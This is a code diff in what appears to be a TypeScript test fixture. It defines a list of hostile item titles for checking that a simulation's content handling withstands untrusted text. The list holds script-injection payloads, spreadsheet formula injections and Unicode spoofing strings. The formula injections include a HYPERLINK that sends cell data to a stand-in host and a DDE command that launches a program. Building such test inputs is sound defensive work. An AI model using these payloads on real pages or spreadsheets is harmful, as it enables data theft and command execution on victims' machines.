@@ -5,8 +5,36 @@
 import { day, hour, minute } from '../clock.ts';
 import type { World } from '../world/world.ts';
 import type { WorldContent } from './content.ts';
-import { hostileTitles } from './hostile.ts';
 import { quiet } from './quiet.ts';
+
+/** Titles that attack a page, a file or a reader: people can type any text as a title. */
+export const hostileTitles: readonly string[] = [
+  '<img src=x onerror="document.title=\'taken over\'">',
+  '<script>document.title="taken over"</script>',
+  '"><svg onload=alert(1)>',
+  'javascript:alert(1)',
+  '=HYPERLINK("https://evil.test/?"&A1,"Click me")',
+  '=1+1',
+  '+1',
+  '-2+3',
+  '@x',
+  '\t=1+1',
+  '\r=1+1',
+  "  =cmd|' /C calc'!A0",
+  'Two\nlines',
+  'Comma, "quotes"; semicolon',
+  'Bell \u0007 and null \u0000 and escape \u001b[31m',
+  'Right to left \u202egnp.exe\u202c override',
+  'Isolate \u2067abc\u2069 and zero\u200bwidth',
+  'Combining Z\u0351\u0343\u0346a\u0335l\u0334g\u0337o\u0338',
+  'Lone surrogate \ud83d here',
+  'Emoji \u{1f469}\u200d\u{1f52c} and 日本語 and العربية',
+  '{{7*7}} ${7*7} %s %n',
+  '__proto__',
+  'null',
+  `Very long title ${'of a job that goes on and on '.repeat(13)}`.slice(0, 399) + '.',
+  'W'.repeat(400),
+];
 
 /** Each replaces fields of a row in both lists. */
 const overridesByTitle: Record<string, Record<string, unknown>> = {
